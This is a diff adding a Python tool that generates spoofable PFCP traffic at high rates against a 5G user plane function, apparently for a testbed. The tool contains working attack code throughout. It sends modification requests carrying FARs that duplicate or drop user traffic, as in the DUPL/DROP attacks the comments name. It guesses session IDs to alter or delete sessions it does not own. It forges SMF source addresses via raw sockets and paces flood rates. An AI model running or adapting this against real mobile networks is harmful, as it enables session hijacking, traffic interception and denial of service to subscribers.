@@ -0,0 +1,339 @@
+from scapy.contrib.pfcp import (PFCP, PFCPHeartbeatRequest, PFCPSessionDeletionRequest,
+                                PFCPSessionEstablishmentRequest, PFCPSessionModificationRequest)
+from scapy.contrib.pfcp import (IE_ApplyAction, IE_BAR_Id, IE_CreateFAR, IE_CreatePDR, IE_DestinationInterface,
+                                IE_FAR_Id, IE_ForwardingParameters, IE_FSEID, IE_NetworkInstance, IE_NodeId,
+                                IE_OuterHeaderCreation, IE_PDI, IE_PDR_Id, IE_Precedence, IE_RecoveryTimeStamp,
+                                IE_SourceInterface)
+from collections import OrderedDict, deque
+import argparse
+import os
+import random
+import socket
+import struct
+import sys
+import threading
+import time
+
+import numpy as np
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))
+
+from pfcp_decoder import CAUSE_REQUEST_ACCEPTED, PFCP_PORT, cause, f_seid, parse_pfcp  # noqa: E402
+
+PFCP_CP_IP_V4 = "10.0.14.40"
+PFCP_UP_IP_V4 = "10.0.14.45"
+
+SESSION_ESTABLISHMENT_RESPONSE = 51
+# Marker values located in the built templates to find the fields patched per message
+SEID_MARKER = 0x5EED5EED5EED5EED
+SEQ_MARKER = 0xABCDEF
+MAX_PENDING = 65536
+# A batch holds what the target rate earns in this many seconds, up to --batch-size messages
+BATCH_PERIOD = 0.01
+
+
+def create_far(drop):
+    # The FAR of the DUPL/DROP modification attacks in pfcp_modification_dupl.py / pfcp_modification_drop.py
+    return IE_CreateFAR(IE_list=[
+        IE_FAR_Id(id=10),
+        IE_ApplyAction(FORW=1, DROP=1) if drop else IE_ApplyAction(FORW=1, DUPL=1),
+        IE_ForwardingParameters(),
+        IE_DestinationInterface(),
+        IE_NetworkInstance(instance="lo"),
+        IE_OuterHeaderCreation(UDPIPV4=1, TEID=0x00000001, ipv4="10.0.13.50"),
+        IE_BAR_Id(id=1),
+    ])
+
+
+class Template:
+    # Encoded PFCP message built once with scapy; only the SEID and sequence number are patched per send
+    def __init__(self, message, smf_ip, with_seid=True, cp_seid=False):
+        if with_seid:
+            header = PFCP(version=1, S=1, seid=SEID_MARKER, seq=SEQ_MARKER)
+        else:
+            header = PFCP(version=1, S=0, seq=SEQ_MARKER)
+        ies = list(message.IE_list)
+        if cp_seid:
+            # Establishment carries the SMF's own SEID in its F-SEID; it is patched like the header SEID
+            ies.insert(1, IE_FSEID(v4=1, seid=SEID_MARKER + 1, ipv4=smf_ip))
+            message.IE_list = ies
+        self.data = bytearray(bytes(header / message))
+        self.seq_offset = 12 if with_seid else 4
+        self.seid_offset = 4 if with_seid else None
+        self.cp_seid_offset = self.data.find(struct.pack('!Q', SEID_MARKER + 1)) if cp_seid else None
+        self.msg_type = self.data[1]
+
+    def render(self, seq, seid=0, cp_seid=None):
+        data = self.data
+        data[self.seq_offset:self.seq_offset + 3] = seq.to_bytes(3, 'big')
+        if self.seid_offset is not None:
+            struct.pack_into('!Q', data, self.seid_offset, seid)
+        if self.cp_seid_offset is not None:
+            struct.pack_into('!Q', data, self.cp_seid_offset, cp_seid)
+        return data
+
+
+def build_templates(smf_ip, full_establishment=False):
+    # By default establishment is sent like pfcp_establishment.py: an empty body with the session counter
+    # as header SEID. The full form has header SEID 0, Node ID, F-SEID, Create PDR and Create FAR, which a
+    # UPF needs to accept the session.
+    if full_establishment:
+        establishment = Template(PFCPSessionEstablishmentRequest(IE_list=[
+            IE_NodeId(id_type=0, ipv4=smf_ip),
+            IE_CreatePDR(IE_list=[IE_PDR_Id(id=1), IE_Precedence(precedence=255),
+                                  IE_PDI(IE_list=[IE_SourceInterface(interface=0)]), IE_FAR_Id(id=1)]),
+            IE_CreateFAR(IE_list=[IE_FAR_Id(id=1), IE_ApplyAction(FORW=1)]),
+        ]), smf_ip, cp_seid=True)
+    else:
+        establishment = Template(PFCPSessionEstablishmentRequest(), smf_ip)
+    recovery = int(time.time()) + 2208988800  # NTP epoch
+    return {
+        'establishment': establishment,
+        'modification_dupl': Template(PFCPSessionModificationRequest(IE_list=[create_far(drop=False)]), smf_ip),
+        'modification_drop': Template(PFCPSessionModificationRequest(IE_list=[create_far(drop=True)]), smf_ip),
+        'deletion': Template(PFCPSessionDeletionRequest(IE_list=[]), smf_ip),
+        'heartbeat': Template(PFCPHeartbeatRequest(IE_list=[IE_RecoveryTimeStamp(timestamp=recovery)]), smf_ip,
+                              with_seid=False),
+    }
+
+
+MESSAGE_KINDS = ('establishment', 'modification_dupl', 'modification_drop', 'deletion', 'heartbeat')
+
+
+class SimulatedSmf:
+    # One SMF: a persistent UDP socket bound to its address, its own sequence numbers and SEIDs.
+    # With spoof the messages leave through a raw socket with the SMF address as source, like the
+    # scapy send() of the attack scripts (needs root, responses go to the real SMF).
+    def __init__(self, smf_ip, upf_ip, port=PFCP_PORT, learn=False, spoof=False, full_establishment=False):
+        if spoof and learn:
+            raise ValueError("Responses to spoofed requests cannot be read, use spoof or learn")
+        self.spoof = spoof
+        if spoof:
+            self.address = (upf_ip, 0)
+            self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+            self.ip_addresses = socket.inet_aton(smf_ip) + socket.inet_aton(upf_ip)
+            self.port = port
+        else:
+            self.address = (upf_ip, port)
+            self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            self.socket.bind((smf_ip, port))
+        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+        # Sessions are only learnt from establishments the UPF can accept
+        self.templates = build_templates(smf_ip, full_establishment or learn)
+        self.seq = 0
+        self.next_seid = 1
+        self.learn = learn
+        # UP SEIDs from accepted establishment responses; without them SEIDs are guessed like in the attack scripts
+        self.sessions = deque()
+        self.pending = OrderedDict()
+        self.response_latencies = []
+        self.responses = 0
+        self.running = True
+        if learn:
+            self.socket.settimeout(0.2)
+            self.receiver = threading.Thread(target=self.receive, daemon=True)
+            self.receiver.start()
+
+    def message(self, kind, rng=random):
+        self.seq = (self.seq + 1) & 0xFFFFFF
+        template = self.templates[kind]
+        if kind == 'establishment':
+            cp_seid = self.next_seid
+            self.next_seid += 1
+            if template.cp_seid_offset is None:
+                return template.render(self.seq, cp_seid)
+            return template.render(self.seq, 0, cp_seid)
+        if kind == 'heartbeat':
+            return template.render(self.seq)
+        if kind == 'deletion':
+            seid = self.sessions.popleft() if self.sessions else self._guess()
+        else:
+            seid = self.sessions[rng.randrange(len(self.sessions))] if self.sessions else self._guess()
+        return template.render(self.seq, seid)
+
+    def _guess(self):
+        seid = self.next_seid
+        self.next_seid += 1
+        return seid
+
+    def ip_udp(self, data):
+        # IPv4 and UDP headers for a raw socket; the kernel fills in the IP checksum, UDP checksum 0 means none
+        ip = struct.pack('!BBHHHBBH', 0x45, 0, 28 + len(data), 0, 0x4000, 64, socket.IPPROTO_UDP, 0)
+        return ip + self.ip_addresses + struct.pack('!HHHH', self.port, self.port, 8 + len(data), 0) + data
+
+    def send(self, kinds, rng=random):
+        sendto = self.socket.sendto
+        address = self.address
+        for kind in kinds:
+            data = self.message(kind, rng)
+            if self.spoof:
+                data = self.ip_udp(data)
+            if self.learn:
+                self.pending[self.seq] = time.perf_counter()
+                if len(self.pending) > MAX_PENDING:
+                    self.pending.popitem(last=False)
+            try:
+                sendto(data, address)
+            except BlockingIOError:
+                pass
+
+    def receive(self):
+        while self.running:
+            try:
+                data, _ = self.socket.recvfrom(65535)
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            now = time.perf_counter()
+            for message in parse_pfcp(data, 0, len(data)):
+                sent = self.pending.pop(message.seq, None)
+                if sent is not None:
+                    self.responses += 1
+                    self.response_latencies.append(now - sent)
+                if message.msg_type == SESSION_ESTABLISHMENT_RESPONSE and \
+                        cause(data, message) == CAUSE_REQUEST_ACCEPTED:
+                    seid = f_seid(data, message)
+                    if seid is not None:
+                        self.sessions.append(seid)
+
+    def close(self):
+        self.running = False
+        self.socket.close()
+
+
+class RateProfile:
+    # Target packets per second over time, linear between (seconds, rate) points and flat after the last
+    def __init__(self, points):
+        self.points = sorted(points)
+
+    @classmethod
+    def parse(cls, text):
+        return cls([tuple(float(x) for x in point.split(':')) for point in text.split(',')])
+
+    def rate(self, t):
+        points = self.points
+        if t <= points[0][0]:
+            return points[0][1]
+        for (t0, r0), (t1, r1) in zip(points, points[1:]):
+            if t < t1:
+                return r0 + (r1 - r0) * (t - t0) / (t1 - t0)
+        return points[-1][1]
+
+
+class PfcpGenerator:
+    def __init__(self, smfs, mix, profile, batch_size=64, seed=None):
+        self.smfs = smfs
+        self.kinds = list(mix)
+        self.weights = [mix[kind] for kind in self.kinds]
+        self.profile = profile
+        self.batch_size = batch_size
+        self.random = random.Random(seed)
+        self.sent = 0
+        self.batch_times = []
+        self.elapsed = 0.0
+
+    def run(self, duration=None, count=None):
+        # Token bucket: credit grows with the target rate and is spent a batch at a time, so the
+        # pacing overhead is paid once per batch instead of once per message. Batches shrink to what the
+        # rate earns in BATCH_PERIOD, so low rates are sent evenly instead of in bursts
+        start = last = time.perf_counter()
+        credit = 0.0
+        turn = 0
+        try:
+            while True:
+                now = time.perf_counter()
+                elapsed = now - start
+                if duration is not None and elapsed >= duration or count is not None and self.sent >= count:
+                    break
+                credit = min(credit + self.profile.rate(elapsed) * (now - last), 4 * self.batch_size)
+                last = now
+                rate = self.profile.rate(elapsed)
+                target = min(self.batch_size, max(int(rate * BATCH_PERIOD), 1))
+                if count is not None:
+                    target = min(target, count - self.sent)
+                if credit < target:
+                    time.sleep(max((target - credit) / max(rate, 1.0), 0.0) / 2)
+                    continue
+                n = min(self.batch_size, int(credit))
+                if count is not None:
+                    n = min(n, count - self.sent)
+                kinds = self.random.choices(self.kinds, self.weights, k=n)
+                smf = self.smfs[turn % len(self.smfs)]
+                turn += 1
+                batch_start = time.perf_counter()
+                smf.send(kinds, self.random)
+                self.batch_times.append(time.perf_counter() - batch_start)
+                credit -= n
+                self.sent += n
+        except KeyboardInterrupt:
+            pass
+        self.elapsed = time.perf_counter() - start
+
+    def report(self):
+        batch_times = np.array(self.batch_times) * 1e6
+        print(f"Sent {self.sent} messages in {self.elapsed:.2f} s "
+              f"({self.sent / self.elapsed if self.elapsed else 0:,.0f} packets/s)")
+        if len(batch_times):
+            print(f"Send time per batch of up to {self.batch_size}: p50={np.percentile(batch_times, 50):.1f} us "
+                  f"p99={np.percentile(batch_times, 99):.1f} us")
+        latencies = np.concatenate([smf.response_latencies for smf in self.smfs] + [[]]) * 1000
+        responses = sum(smf.responses for smf in self.smfs)
+        if any(smf.learn for smf in self.smfs):
+            print(f"Responses: {responses}"
+                  + (f", latency p50={np.percentile(latencies, 50):.2f} ms p99={np.percentile(latencies, 99):.2f} ms"
+                     if len(latencies) else ""))
+
+
+def parse_mix(text):
+    mix = {}
+    for part in text.split(','):
+        kind, _, weight = part.partition('=')
+        if kind not in MESSAGE_KINDS:
+            raise argparse.ArgumentTypeError(f"Unknown message kind {kind}, expected one of {', '.join(MESSAGE_KINDS)}")
+        mix[kind] = float(weight or 1)
+    return mix
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Send PFCP session requests at a target rate from prebuilt templates.')
+    parser.add_argument('--smf', action='append', default=None,
+                        help=f'Source address of a simulated SMF, can be given several times (default: {PFCP_CP_IP_V4})')
+    parser.add_argument('--upf', default=PFCP_UP_IP_V4, help=f'UPF address (default: {PFCP_UP_IP_V4})')
+    parser.add_argument('--port', type=int, default=PFCP_PORT, help=f'PFCP port (default: {PFCP_PORT})')
+    parser.add_argument('--mix', type=parse_mix, default=parse_mix('establishment'),
+                        help='Message kinds and weights, e.g. establishment=2,deletion=1,modification_dupl=1 '
+                             f"(kinds: {', '.join(MESSAGE_KINDS)}; default: establishment)")
+    parser.add_argument('--rate', type=float, default=1000, help='Target packets per second (default: 1000)')
+    parser.add_argument('--ramp', type=RateProfile.parse, default=None,
+                        help='Rate profile as seconds:rate points, e.g. 0:100,30:10000,60:10000 (overrides --rate)')
+    parser.add_argument('--duration', type=float, default=10, help='Seconds to send for (default: 10)')
+    parser.add_argument('--count', type=int, default=None, help='Stop after this many messages')
+    parser.add_argument('--batch-size', type=int, default=64, help='Messages sent per batch (default: 64)')
+    parser.add_argument('--learn', action='store_true',
+                        help='Read responses to measure response latency and to target established sessions')
+    parser.add_argument('--spoof', action='store_true',
+                        help='Send from --smf addresses this host does not own through a raw socket (needs root)')
+    parser.add_argument('--full-establishment', action='store_true',
+                        help='Send establishments with Node ID, F-SEID, PDR and FAR instead of the empty body of '
+                             'pfcp_establishment.py (always on with --learn)')
+    parser.add_argument('--seed', type=int, default=None, help='Random seed for the message mix and the targeted SEIDs')
+    args = parser.parse_args()
+    if args.spoof and args.learn:
+        parser.error("--learn cannot read responses to spoofed requests")
+
+    smfs = [SimulatedSmf(ip, args.upf, args.port, args.learn, args.spoof, args.full_establishment)
+            for ip in (args.smf or [PFCP_CP_IP_V4])]
+    profile = args.ramp or RateProfile([(0.0, args.rate)])
+    generator = PfcpGenerator(smfs, args.mix, profile, args.batch_size, args.seed)
+    generator.run(args.duration, args.count)
+    # Give the last responses a moment to arrive
+    if args.learn:
+        time.sleep(0.5)
+    generator.report()
+    for smf in smfs:
+        smf.close()
+
+
+if __name__ == "__main__":
+    main()